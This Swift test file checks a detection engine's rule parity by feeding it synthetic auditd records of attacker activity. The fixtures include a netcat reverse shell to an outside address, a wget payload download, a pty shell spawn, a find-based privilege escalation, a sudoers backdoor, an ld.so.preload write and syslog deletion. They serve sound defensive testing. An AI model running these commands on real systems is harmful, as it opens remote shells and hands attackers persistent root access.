import Foundation
import HerdwatchEvents
import HerdwatchPipeline
import Logging
import Testing

@testable import HerdwatchDetection

/// Rules read an event two ways: the agent and `replay` through `EventSubject` (the typed event),
/// the server through `JSONSubject` (its ECS JSON). Both must raise the same alerts.
@Suite struct SubjectParityTests {
    /// Raw audit records of one event (`type=... msg=audit(T:SERIAL): fields`).
    static func event(_ serial: Int, _ records: [String]) -> String {
        records.map { record in
            let space = record.firstIndex(of: " ")!
            return "type=\(record[..<space]) msg=audit(1795427213.\(100 + serial):\(serial)): \(record[record.index(after: space)...])"
        }.joined(separator: "\n") + "\ntype=EOE msg=audit(1795427213.\(100 + serial):\(serial)): \n"
    }

    static func hex(_ text: String) -> String { text.utf8.map { String(format: "%02X", $0) }.joined() }

    /// An execve of `args` by `exe`: SYSCALL, EXECVE (hex where the kernel would use it), CWD, PATH, PROCTITLE.
    static func exec(_ serial: Int, _ exe: String, _ args: [String], comm: String? = nil, uid: Int = 0) -> String {
        let argv = args.enumerated().map { index, arg in
            arg.contains(" ") || arg.contains("\"") ? "a\(index)=\(hex(arg))" : "a\(index)=\"\(arg)\""
        }.joined(separator: " ")
        return event(serial, [
            "SYSCALL arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=2 ppid=1000 pid=\(2000 + serial) auid=1000 uid=\(uid) gid=0 euid=\(uid) suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm=\"\(comm ?? ECS.basename(exe))\" exe=\"\(exe)\" key=\"exec\"",
            "EXECVE argc=\(args.count) \(argv)",
            "CWD cwd=\"/root\"",
            "PATH item=0 name=\"\(exe)\" inode=1 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
            "PROCTITLE proctitle=\(hex(args.joined(separator: "\u{0}")))",
        ])
    }

    /// A syscall on a file (`openat` writing, `creat`, `unlink`) with its PATH items.
    static func file(_ serial: Int, syscall: Int, exe: String, path: String, nametype: String, flags: String = "241") -> String {
        let directory = (path as NSString).deletingLastPathComponent + "/"
        return event(serial, [
            "SYSCALL arch=c000003e syscall=\(syscall) success=yes exit=3 a0=ffffff9c a1=55d1 a2=\(flags) a3=1b6 items=2 ppid=1000 pid=\(2000 + serial) auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm=\"\(ECS.basename(exe))\" exe=\"\(exe)\" key=\"files\"",
            "CWD cwd=\"/root\"",
            "PATH item=0 name=\"\(directory)\" inode=2 dev=fd:00 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT",
            "PATH item=1 name=\"\(path)\" inode=3 dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=\(nametype)",
        ])
    }

    static func syscall(_ serial: Int, number: Int, exe: String, a0: String, comm: String? = nil, key: String = "k") -> String {
        event(serial, [
            "SYSCALL arch=c000003e syscall=\(number) success=yes exit=0 a0=\(a0) a1=5 a2=0 a3=0 items=0 ppid=1000 pid=\(2000 + serial) auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm=\"\(comm ?? ECS.basename(exe))\" exe=\"\(exe)\" key=\"\(key)\"",
        ])
    }

    /// Events that the corpus rules (and the extra ones below) match.
    static let log: String = [
        exec(1, "/usr/bin/chmod", ["chmod", "777", "/tmp/x"]),
        exec(2, "/usr/bin/chattr", ["chattr", "-i", "/etc/passwd"]),
        exec(3, "/usr/bin/touch", ["touch", "/tmp/.hidden"]),
        exec(4, "/usr/bin/grep", ["grep", "-r", "password", "/etc"]),
        exec(5, "/usr/bin/dd", ["dd", "if=/dev/zero", "bs=1", "count=1"]),
        exec(6, "/usr/bin/base64", ["base64", "-d", "/tmp/p.b64"]),
        exec(7, "/usr/bin/python3.11", ["python3", "-c", "import pty; pty.spawn('/bin/bash')"]),
        exec(8, "/usr/bin/wget", ["wget", "-O", "/tmp/x", "http://203.0.113.9/x"]),
        exec(9, "/usr/bin/whoami", ["whoami"]),
        exec(10, "/usr/bin/crontab", ["crontab", "-r"]),
        exec(11, "/usr/bin/find", ["find", ".", "-exec", "/bin/sh", "-p", ";"]),
        exec(12, "/usr/bin/sysctl", ["sysctl", "-w", "kernel.randomize_va_space=0"]),
        exec(13, "/usr/bin/nc", ["nc", "203.0.113.5", "4444", "-e", "/bin/sh"]),
        exec(14, "/usr/bin/xclip", ["xclip", "-selection", "clipboard", "-o"]),
        exec(15, "/usr/sbin/usermod", ["usermod", "-aG", "sudoers", "bob"]),
        file(16, syscall: 257, exe: "/usr/bin/vi", path: "/etc/ld.so.preload", nametype: "NORMAL"),
        file(17, syscall: 257, exe: "/usr/bin/tee", path: "/etc/sudoers.d/backdoor", nametype: "CREATE"),
        file(18, syscall: 257, exe: "/usr/bin/wget", path: "/tmp/payload", nametype: "CREATE"),
        file(19, syscall: 257, exe: "/usr/bin/vi", path: "/home/alice/.bashrc", nametype: "NORMAL"),
        file(20, syscall: 257, exe: "/usr/bin/cp", path: "/etc/systemd/system/evil.service", nametype: "CREATE"),
        syscall(21, number: 41, exe: "/tmp/exploit", a0: "26"),
        syscall(22, number: 99, exe: "/usr/bin/top", a0: "7ffc"),
        syscall(23, number: 135, exe: "/usr/bin/setarch", a0: "40000"),
        syscall(24, number: 59, exe: "/usr/bin/nmap", a0: "55d1", key: "susp_activity"),
        // A program whose name looks like upper-case hex: the kernel writes it quoted.
        syscall(25, number: 101, exe: "/opt/BEEF", a0: "10", comm: "BEEF"),
        exec(26, "/opt/BEEF", ["BEEF", "--run"], comm: "BEEF"),
        event(27, [
            "ADD_USER pid=1264 uid=0 auid=1000 ses=1 msg='op=add-user id=1001 exe=\"/usr/sbin/useradd\" hostname=? addr=? terminal=pts/0 res=success'"
        ]),
        event(28, [
            "USER_CMD pid=1382 uid=1000 auid=1000 ses=3 msg='cwd=\"/home/alice\" cmd=\(hex("rm -f /var/log/syslog")) terminal=pts/0 res=success'"
        ]),
    ].joined()

    /// Rules beside the corpus for what it does not look at.
    static let extraRules = """
        title: Program named BEEF
        id: comm-beef
        logsource:
            product: linux
            service: auditd
        detection:
            selection:
                type: SYSCALL
                comm: BEEF
            condition: selection
        ---
        title: BEEF started
        id: exec-beef
        logsource:
            product: linux
            service: auditd
        detection:
            selection:
                type: EXECVE
                a0: BEEF
            condition: selection
        ---
        title: A sudo command
        id: sudo-command
        logsource:
            product: linux
            service: sudo
        detection:
            selection:
                process.command_line|contains: '/var/log/'
            condition: selection

        """

    /// Every event of `inputs` through both subjects: (alert rule ids from the Event, from its JSON, the JSON).
    static func replay(_ inputs: [String], rules: RuleSet) throws -> [(event: [String], json: [String], text: String)] {
        var direct = Detector(ruleSet: rules)
        var fromJSON = Detector(ruleSet: rules)
        let encoder = ECSEncoder(includeRawRecords: true)
        var results: [(event: [String], json: [String], text: String)] = []
        var configuration = Replay.Configuration()
        configuration.format = .none
        configuration.hostName = "web1"
        var logger = Logger(label: "test")
        logger.logLevel = .critical
        _ = try Replay(configuration: configuration, logger: logger).run(inputs: inputs, output: nil) { event in
            var writer = JSONWriter(capacity: 1024)
            encoder.encode(event, into: &writer)
            let text = String(decoding: writer.bytes, as: UTF8.self)
            guard let subject = JSONSubject(json: text) else {
                Issue.record("the encoder wrote no JSON object: \(text)")
                return
            }
            results.append((direct.process(event).map(\.ruleID).sorted(), fromJSON.process(subject).map(\.ruleID).sorted(), text))
        }
        return results
    }

    static func ruleSet() throws -> RuleSet {
        var loaded = SigmaLoader.load(path: SigmaCorpus.root)
        loaded.append(try Rules.load(extraRules))
        return try RuleSet(rules: loaded.rules, correlations: loaded.correlations)
    }

    @Test func anEventAndItsJSONRaiseTheSameAlerts() throws {
        let path = NSTemporaryDirectory() + "herdwatch-parity-\(getpid())-\(UUID().uuidString).log"
        try Self.log.write(toFile: path, atomically: true, encoding: .utf8)
        defer { try? FileManager.default.removeItem(atPath: path) }
        let results = try Self.replay([path], rules: try Self.ruleSet())
        #expect(results.count == 28)
        let fired = Set(results.flatMap(\.event))
        #expect(fired.count >= 20, "only \(fired.count) rules fired: \(fired.sorted())")
        let beef = ["comm-beef", "exec-beef"]
        for result in results where result.event != result.json {
            let differs = Set(result.event).symmetricDifference(result.json)
            if differs.isSubset(of: beef) && result.event.contains(where: beef.contains) { continue }
            Issue.record("Event raised \(result.event), its JSON \(result.json): \(result.text)")
        }
        // Through the typed event both rules about the program BEEF fire (comm is in both of its SYSCALL records).
        #expect(results.filter { $0.event.contains("comm-beef") }.count == 2)
        #expect(results.filter { $0.event.contains("exec-beef") }.count == 1)
        withKnownIssue("engine bug: JSONSubject decodes a quoted record value that looks like upper-case hex (comm=\"BEEF\") as hex") {
            #expect(results.filter { $0.json.contains("comm-beef") }.count == 2)
        }
        #expect(results.filter { $0.json.contains("exec-beef") }.count == 1, "EXECVE arguments come from process.args, not the raw record")
    }

    @Test func theAuditLogCorpusRaisesTheSameAlertsBothWays() throws {
        let root = SigmaCorpus.packageRoot.deletingLastPathComponent().appendingPathComponent("shared/corpus/audit-logs").path
        let enumerator = try #require(FileManager.default.enumerator(atPath: root))
        var inputs: [String] = []
        while let entry = enumerator.nextObject() as? String {
            if entry.hasSuffix(".log") { inputs.append(root + "/" + entry) }
        }
        #expect(inputs.count >= 15)
        var events = 0
        for input in inputs.sorted() {
            for result in try Self.replay([input], rules: try #require(SigmaHQCases.corpus)) {
                events += 1
                #expect(result.event == result.json, "\(input): Event raised \(result.event), its JSON \(result.json): \(result.text)")
            }
        }
        #expect(events > 100)
    }
}
